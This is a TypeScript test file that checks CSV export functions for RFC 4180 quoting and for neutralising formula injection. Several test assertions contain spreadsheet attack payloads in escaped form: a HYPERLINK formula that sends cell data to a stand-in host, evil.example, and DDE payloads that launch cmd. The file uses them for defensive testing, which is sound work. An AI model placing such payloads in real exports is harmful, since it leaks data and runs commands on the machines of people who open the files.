/**
 * CSV exports: RFC 4180 framing (CRLF, quotes doubled, multi-line cells), formula injection
 * neutralised per OWASP, numbers left alone, and a lossless round-trip through csv-parse.
 */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { HOSTILE_NAMES, hostileRecords, realInventory } from "./__fixtures__/records.js";
import { inventoryCsv, inventoryUsersCsv, RECORD_COLUMNS, USER_COLUMNS } from "./csv.js";
import { safeText } from "../src/io/safe-text.js";

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function rows(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

/** What a spreadsheet would show for a cell written from `v`. */
function expected(v: string | number): string {
  if (typeof v !== "string") return String(v);
  // control and bidi characters become visible escapes (src/io/safe-text.ts), then formula cells get a '
  const t = safeText(v);
  return FORMULA_START.test(t) ? `'${t}` : t;
}

describe("inventoryCsv", () => {
  it("writes one row per record under a header, CRLF line ends, UTF-8 BOM", () => {
    const { records } = realInventory();
    const csv = inventoryCsv(records);
    expect(csv.startsWith("\uFEFFid,service_id,name,")).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    const r = rows(csv);
    expect(r[0]).toEqual(RECORD_COLUMNS.map((c) => c.header));
    expect(r.length).toBe(records.length + 1);
    expect(r.slice(1).map((x) => x[0])).toEqual(records.map((x) => x.id));
    expect(inventoryCsv(records, { bom: false }).startsWith("id,")).toBe(true);
  });

  it("round-trips every cell through csv-parse, hostile ones prefixed with ' and nothing else changed", () => {
    const records = hostileRecords();
    const r = rows(inventoryCsv(records));
    for (const [i, rec] of records.entries()) {
      const row = r[i + 1]!;
      expect(row.length).toBe(RECORD_COLUMNS.length);
      RECORD_COLUMNS.forEach((c, j) => expect(row[j], `${rec.id} ${c.header}`).toBe(expected(c.value(rec))));
    }
  });

  it("never lets a cell start a formula, and leaves emitted numbers alone", () => {
    const records = hostileRecords();
    const r = rows(inventoryCsv(records)).slice(1);
    const score = RECORD_COLUMNS.findIndex((c) => c.header === "risk_score");
    for (const row of r) {
      for (const cell of row) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
      expect(row[score]).toMatch(/^\d+$/);
    }
    const nameCol = RECORD_COLUMNS.findIndex((c) => c.header === "name");
    const names = r.map((row) => row[nameCol]);
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(names).toContain("'+cmd|' /C calc'!A0");
    expect(names).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(names).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    // a tab or carriage return in front is shown as an escape, so the cell cannot start a formula either
    expect(names).toContain("\\x09=1+1");
    expect(names).toContain("\\x0d=1+1");
    // quotes and commas survive unchanged; line breaks are shown, not obeyed
    expect(names).toContain('Quote "in" name, with comma');
    expect(names).toContain("multi\\x0aline\\x0d\\x0aname");
  });

  it("quotes per RFC 4180: a field with a quote or comma is enclosed, quotes doubled; line breaks are escaped", () => {
    const records = hostileRecords().filter((x) => x.name === 'Quote "in" name, with comma');
    const csv = inventoryCsv(records, { bom: false });
    expect(csv).toContain(`,"Quote ""in"" name, with comma",`);
    // a reviewer's spreadsheet never shows a name broken over lines or reordered by bidi overrides
    expect(inventoryCsv(hostileRecords().filter((x) => x.name.startsWith("multi")), { bom: false })).toContain(`,multi\\x0aline\\x0d\\x0aname,`);
  });

  it("handles no records: a header line only", () => {
    expect(inventoryCsv([], { bom: false })).toBe(`${RECORD_COLUMNS.map((c) => c.header).join(",")}\r\n`);
  });
});

describe("inventoryUsersCsv", () => {
  it("writes one row per (record, user), neutralising hostile user ids", () => {
    const records = hostileRecords();
    const r = rows(inventoryUsersCsv(records));
    expect(r[0]).toEqual(USER_COLUMNS.map((c) => c.header));
    expect(r.length - 1).toBe(records.reduce((n, x) => n + x.users.length, 0));
    const userCol = USER_COLUMNS.findIndex((c) => c.header === "user");
    const users = r.slice(1).map((row) => row[userCol]);
    for (const h of HOSTILE_NAMES) expect(users).toContain(expected(h));
    for (const row of r.slice(1)) for (const cell of row) expect(FORMULA_START.test(cell)).toBe(false);
  });
});
